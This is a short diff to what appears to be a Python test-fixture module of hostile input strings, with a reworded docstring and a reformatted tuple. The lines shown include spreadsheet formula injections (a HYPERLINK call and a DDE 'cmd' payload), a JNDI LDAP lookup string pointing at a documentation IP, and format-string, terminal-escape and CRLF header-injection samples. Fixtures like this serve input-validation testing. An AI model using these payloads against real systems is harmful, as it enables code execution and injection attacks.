@@ -1,4 +1,4 @@
-"""Hostile words by kind: what a name, title, id, publisher or address may hold when somebody means harm, or nobody does.
+"""Hostile words by kind: what a name, title, id, publisher or address may hold when somebody means harm, or none.
 
 Control characters and what is not plain to see are written as escapes.
 """
@@ -57,7 +57,13 @@ PATHS = (
     "kg.toml",
 )
 SPREADSHEET = ('=HYPERLINK("http://203.0.113.7","x")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1")
-FORMS = ("%s%n%x%d", "{0.__class__}", "${jndi:ldap://203.0.113.7/a}", "\x1b[2J\x1b]0;taken\x07", "a\r\nSet-Cookie: taken=1")
+FORMS = (
+    "%s%n%x%d",
+    "{0.__class__}",
+    "${jndi:ldap://203.0.113.7/a}",
+    "\x1b[2J\x1b]0;taken\x07",
+    "a\r\nSet-Cookie: taken=1",
+)
 IRIS = (
     "http://example.org/a b",
     'http://example.org/"q"<x>{y}|z^`',
